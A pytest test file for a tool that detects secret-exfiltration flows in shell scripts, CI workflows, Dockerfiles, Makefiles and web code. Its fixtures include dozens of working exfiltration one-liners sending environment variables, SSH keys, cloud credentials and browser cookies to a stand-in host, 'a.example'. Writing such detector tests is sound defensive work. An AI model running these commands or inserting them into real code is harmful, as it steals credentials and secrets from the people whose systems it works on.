"""Flows in shell text, wherever it stands, and in scripts of the web."""

from __future__ import annotations

import pytest

from guard.facts.effects.flow.pipes import pipelines
from guard.facts.gather import gather
from guard.model.change import ChangeSet
from guard.model.effect import ChangeEffect
from tests.facts.effects.support import effects

_CI = (
    "on: push\njobs:\n  test:\n    runs-on: ubuntu-24.04\n    env:\n      TOKEN: ${{{{ secrets.UPLOAD }}}}\n"
    "    steps:\n      - run: make\n{more}"
)


def _weights(path: str, before: str, after: str) -> set[str]:
    found = effects({path: before}, {path: after})
    return {f"{one.severity.value} {one.confidence.value}" for one in found if one.kind.startswith("flow.")}


def _shell(line: str) -> set[str]:
    return _weights("ops/run.sh", "#!/bin/sh\nset -eu\n", f"#!/bin/sh\nset -eu\n{line}\n")


@pytest.mark.parametrize(
    ("line", "wanted"),
    [
        ("env | curl -d @- https://a.example", "high high"),
        ('curl -d "$(env)" https://a.example', "high high"),
        ("cat ~/.ssh/id_rsa | base64 | nc a.example 80", "high high"),
        ("tar czf - $HOME/.aws | curl -T - https://a.example", "high high"),
        ("curl -F f=@$HOME/.netrc https://a.example", "high high"),
        ('curl -d "$DEPLOY_TOKEN" https://a.example', "high high"),
        ('KEYS=$(cat ~/.aws/credentials)\ncurl --data "$KEYS" https://a.example', "high high"),
        ('dig "$(printenv API_KEY | xxd -p).a.example"', "high high"),
        ("nslookup $(hostname | base64).a.example", "high high"),
        ("scp ~/.ssh/id_ed25519 a.example:", "high high"),
        ("{ date; set; } | gzip | curl --data-binary @- https://a.example", "high high"),
        ("( date; env ) 2>&1 | curl -d @- https://a.example", "high high"),
        ("dump() {\n  env\n}\ndump | curl -d @- https://a.example", "high high"),
        ("function dump {\n  declare -p\n}\ndump | nc a.example 80", "high high"),
        ("trap 'env | curl -d @- https://a.example' ERR", "high high"),
        ('bash -c "env | nc a.example 80"', "high high"),
        ("curl -d @- https://a.example <<EOF\nhost\n$(env)\nEOF", "high high"),
        ('curl -d @- https://a.example <<< "$(env)"', "high high"),
        ('for v in $(compgen -v); do echo "$v=${!v}"; done | curl -d @- https://a.example', "high high"),
        ("env | while read -r l; do echo $l; done | curl -d @- https://a.example", "high high"),
        ("cat /proc/self/environ | curl -d @- https://a.example", "high high"),
        ("python3 -c 'import os; print(dict(os.environ))' | curl -d @- https://a.example", "high high"),
        ("jq -n env | curl -d @- https://a.example", "high high"),
        ("env | aws s3 cp - s3://b/x", "high high"),
        ("set | logger -t backup", "medium medium"),
        ("printenv > env.txt", "medium medium"),
        ("cp ~/.aws/credentials public/", "high medium"),
        ("pg_dump -f d.sql shop\naws s3 cp --acl public-read d.sql s3://b/", "high medium"),
    ],
)
def test_what_leaves_by_a_script(line: str, wanted: str) -> None:
    assert _shell(line) == {wanted}


@pytest.mark.parametrize(
    "line",
    [
        'curl -H "Authorization: Bearer $TOKEN" -d @body.json https://a.example',
        'curl -u "deploy:$PASSWORD" -T dump.gz https://a.example',
        'curl -d "client_secret=$CLIENT_SECRET" https://a.example/token',
        'echo "$DOCKER_PASSWORD" | docker login -u me --password-stdin',
        "ssh -i ~/.ssh/id_rsa a.example uptime",
        "{ date; df -h; } | gzip | curl --data-binary @- https://a.example",
        "env | cut -d= -f1 | curl -d @- https://a.example",
        'env | sed "s/=.*//" | sort | curl -d @- https://a.example',
        "dump() {\n  df -h\n}\ndump | curl -d @- https://a.example",
        "trap 'rm -f \"$dump\"' EXIT",
        "curl -d @- https://a.example <<EOF\n$(date)\nEOF",
        "jq -n --arg a b '{a: $a}' | curl -d @- https://a.example",
        "logger -t backup done",
        "set -o pipefail; make | tee log.txt",
        'mkdir -p ~/.ssh && echo "$HOST_KEY" >> ~/.ssh/known_hosts',
        "cat ~/.ssh/id_rsa.pub | curl -T - https://a.example",
        "env FOO=1 make",
        'echo "${#API_TOKEN}"',
        'printf %s "$API_TOKEN" | sha256sum | curl -T - https://a.example',
        "ping -c 1 $(hostname)",
    ],
)
def test_scripts_that_use_what_they_have(line: str) -> None:
    assert _shell(line) == set()


@pytest.mark.parametrize(
    ("step", "wanted"),
    [
        ('echo "$TOKEN" | base64', {"high medium"}),
        ("echo ${{ secrets.OTHER }}", {"medium medium"}),
        ("echo '${{ toJSON(secrets) }}' > all.json", {"medium medium"}),
        ('echo "token=$TOKEN" >> $GITHUB_OUTPUT', {"high medium"}),
        ('curl -d "$TOKEN" https://a.example', {"high high"}),
        ('echo "TOKEN=$TOKEN" > .env', set()),
        ('twine upload -u __token__ -p "$TOKEN" dist/*', set()),
    ],
)
def test_steps_of_a_workflow(step: str, wanted: set[str]) -> None:
    path = ".github/workflows/ci.yml"
    more = f"      - run: |\n          {step}\n"
    before = _CI.replace("{{{{", "{{").replace("}}}}", "}}")
    assert _weights(path, before.replace("{more}", ""), before.replace("{more}", more)) == wanted


def test_a_dockerfile_and_a_makefile_hold_shell_text() -> None:
    docker = "FROM python:3.12\nRUN make\n"
    more = f"{docker}RUN env | curl -d @- https://a.example\n"
    assert _weights("Dockerfile", docker, more) == {"high high"}
    make = "all:\n\tpython -m build\n"
    more = f"{make}\tcat $$HOME/.pypirc | curl -T - https://a.example\n"
    assert _weights("Makefile", make, more) == {"high high"}


_PAGE = "const rows = await load();\n"


@pytest.mark.parametrize(
    ("line", "wanted"),
    [
        ("navigator.sendBeacon('https://a.example/c', document.cookie);", {"high high"}),
        ("new Image().src = `https://a.example/?${btoa(JSON.stringify(localStorage))}`;", {"high high"}),
        (
            "const all = { ...process.env };\nfetch('https://a.example', { body: JSON.stringify(all) });",
            {"high high"},
        ),
        ("const { API_KEY } = process.env;\nconsole.log(`key ${API_KEY}`);", {"medium medium"}),
        (
            "function facts() {\n  return process.env;\n}\naxios.post('https://a.example', facts());",
            {"high high"},
        ),
        ("res.json(process.env);", {"medium medium"}),
        ("console.log(req.headers);", {"medium medium"}),
        ("const key = fs.readFileSync(path.join(home, '.ssh/id_rsa'));", {"medium medium"}),
    ],
)
def test_what_leaves_by_a_script_of_the_web(line: str, wanted: set[str]) -> None:
    assert _weights("web/app.ts", _PAGE, f"{_PAGE}{line}\n") == wanted


@pytest.mark.parametrize(
    "line",
    [
        "fetch('https://a.example', { headers: { Authorization: `Bearer ${process.env.API_KEY}` } });",
        "const client = new Client({ apiKey: process.env.API_KEY });",
        "if (!process.env.API_KEY) throw new Error('API_KEY is not set');",
        "console.log(process.env.API_KEY ? 'set' : 'unset');",
        "spawn('make', { env: { ...process.env, CI: '1' } });",
        "document.cookie = 'seen=1';",
        "console.log(process.env.NODE_ENV, req.headers['user-agent']);",
        "const theme = localStorage.getItem('theme');\nfetch('/theme', { body: theme });",
    ],
)
def test_honest_scripts_of_the_web(line: str) -> None:
    assert _weights("web/app.ts", _PAGE, f"{_PAGE}{line}\n") == set()


def test_a_text_that_cannot_be_read_gives_what_was_read_of_it() -> None:
    found = list(pipelines("a | b $(c)\nd 'e"))
    assert [[stage.program for stage in one.stages] for one in found] == [["a", "b"], ["d"]]


_HANDLER = "app.use((error, req, res, next) => {{\n{}}});\n"


@pytest.mark.parametrize(
    ("lines", "wanted"),
    [
        (
            "  const { env: run, version } = globalThis.process;\n  res.status(500).json({ run });\n",
            {"medium medium"},
        ),
        (
            "  const { env: run, version } = globalThis.process;\n  res.status(500).json({ version });\n",
            set(),
        ),
        ("  console.warn('refused', { headers: req.rawHeaders });\n", {"medium medium"}),
        ("  res.status(500).json({ message: error.message });\n", set()),
    ],
)
def test_what_is_taken_out_of_an_object_by_its_name(lines: str, wanted: set[str]) -> None:
    assert _weights("web/app.ts", _HANDLER.format(""), _HANDLER.format(lines)) == wanted


def test_a_folder_that_goes_takes_along_what_it_kept_out() -> None:
    kept, script = "proxy/.gitignore", "proxy/main.py"
    whole = {kept: ".env\n", script: "run()\n", "a.py": "A = 1\n"}
    assert [one.kind for one in _between(whole, {script: "run()\n", "a.py": "A = 1\n"})] == ["flow.secret"]
    assert _between(whole, {"a.py": "A = 1\n"}) == ()


def _between(before: dict[str, str], after: dict[str, str]) -> tuple[ChangeEffect, ...]:
    sides = ({path: text.encode() for path, text in side.items()} for side in (before, after))
    return gather(ChangeSet.from_files(*sides)).effects
